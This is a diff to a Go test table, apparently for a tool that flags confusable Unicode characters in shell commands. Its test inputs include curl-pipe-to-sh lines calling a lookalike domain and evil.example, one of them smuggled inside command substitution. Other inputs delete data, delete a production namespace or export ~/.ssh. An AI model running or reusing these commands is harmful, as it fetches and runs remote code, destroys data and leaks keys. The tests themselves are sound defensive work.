@@ -58,6 +58,10 @@ var Cases = []Case{
 	{Name: "confusable fullwidth", Command: "ｒｍ -rf ~/important", Show: []string{"⟦U+FF52⟧⟦U+FF4D⟧ -rf ~/important"}},
 	{Name: "confusable minus sign", Command: "rm −rf ./cache", Show: []string{"rm ⟦U+2212⟧rf ./cache"}},
 	{Name: "confusable smart quotes", Command: "echo ‘$(curl -s https://evil.example/p | sh)’", Show: []string{"⟦U+2018⟧$(curl"}},
+	{Name: "confusable small capitals", Command: "curl -s https://gᴏᴏgle.com/i.sh | sh", Show: []string{"https://g⟦U+1D0F⟧⟦U+1D0F⟧gle.com/i.sh"}},
+	{Name: "confusable kra", Command: "ĸubectl delete namespace prod", Show: []string{"⟦U+0138⟧ubectl delete namespace prod"}},
+	{Name: "confusable primes as quotes", Command: "echo ′$(curl -s https://evil.example/p | sh)′", Show: []string{"⟦U+2032⟧$(curl"}},
+	{Name: "confusable whole-script lisu", Command: "ꓚꓮꓓ --export ~/.ssh", Show: []string{"⟦U+A4DA⟧⟦U+A4EE⟧⟦U+A4D3⟧ --export"}},
 	{Name: "invalid utf-8 alike", Command: "rm -rf ./a\xfe", Show: []string{"rm -rf ./a⟦"}},
 	{Name: "tray underscores", Command: "rm -rf ./my_build_dir", Show: []string{"rm -rf ./my_build_dir"}},
 	// Hermes' own redactor masked the code (issue 29): as the real 0.18.2
